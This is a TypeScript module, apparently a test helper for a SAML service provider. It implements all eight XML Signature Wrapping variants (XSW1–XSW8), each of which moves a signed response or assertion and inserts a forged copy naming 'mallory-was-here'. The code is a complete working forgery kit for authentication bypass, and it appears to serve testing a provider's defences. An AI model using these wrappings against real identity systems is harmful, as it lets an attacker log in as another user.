import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { newMessageId } from './saml-provider';

/** The known forms of signature wrapping: what was signed goes elsewhere, and what is read says somebody else. */
export const WRAPPINGS = {
  'XSW1: the signed response within the signature of another': (xml: string) =>
    wrapResponse(xml, (evil, original) => {
      signatureIn(evil).appendChild(original);
    }),
  'XSW2: the signed response before the signature of another': (xml: string) =>
    wrapResponse(xml, (evil, original) => {
      evil.insertBefore(original, signatureIn(evil));
    }),
  'XSW3: another assertion before the signed one': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      drop(signatureIn(evil));
      original.parentNode?.insertBefore(evil, original);
    }),
  'XSW4: another assertion around the signed one': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      drop(signatureIn(evil));
      original.parentNode?.replaceChild(evil, original);
      evil.appendChild(original);
    }),
  'XSW5: the signature in another assertion, the signed one behind it': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      drop(signatureIn(original));
      original.parentNode?.insertBefore(evil, original);
    }),
  'XSW6: the signed assertion within its signature in another': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      drop(signatureIn(original));
      original.parentNode?.replaceChild(evil, original);
      signatureIn(evil).appendChild(original);
    }),
  'XSW7: another assertion among the extensions': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      const { ownerDocument: document, parentNode: response } = original;
      const extensions = document.createElementNS(
        'urn:oasis:names:tc:SAML:2.0:protocol',
        'samlp:Extensions',
      );
      response?.insertBefore(extensions, original);
      extensions.appendChild(evil);
    }),
  'XSW8: the signed assertion as an object of its signature in another': (xml: string) =>
    wrapAssertion(xml, (evil, original) => {
      drop(signatureIn(original));
      original.parentNode?.replaceChild(evil, original);
      const object = evil.ownerDocument.createElementNS(
        'http://www.w3.org/2000/09/xmldsig#',
        'ds:Object',
      );
      signatureIn(evil).appendChild(object);
      object.appendChild(original);
    }),
} as const;

/** Whom the wrapped message names. */
export const WRAPPED_NAME = 'mallory-was-here';

function wrapResponse(xml: string, wrap: (evil: Element, original: Element) => void): string {
  const document = parse(xml);
  const original = document.documentElement.cloneNode(true) as Element;
  const evil = document.documentElement;
  evil.setAttribute('ID', newMessageId());
  named(evil);
  drop(signatureIn(original));
  wrap(evil, original);
  return new XMLSerializer().serializeToString(document);
}

function wrapAssertion(xml: string, wrap: (evil: Element, original: Element) => void): string {
  const document = parse(xml);
  const original = document.getElementsByTagName('saml:Assertion')[0];
  if (original === undefined) throw new Error('There is no assertion.');
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', newMessageId());
  named(evil);
  wrap(evil, original);
  return new XMLSerializer().serializeToString(document);
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function named(evil: Element): void {
  const nameId = evil.getElementsByTagName('saml:NameID')[0];
  if (nameId !== undefined) nameId.textContent = WRAPPED_NAME;
}

function signatureIn(element: Element): Element {
  const child = Array.from({ length: element.childNodes.length }, (_, i) => element.childNodes[i])
    .filter((node): node is Element => node !== undefined && 'localName' in node)
    .find(({ localName }) => localName === 'Signature');
  if (child === undefined) throw new Error('It is not signed.');
  return child;
}

function drop(node: Node): void {
  node.parentNode?.removeChild(node);
}
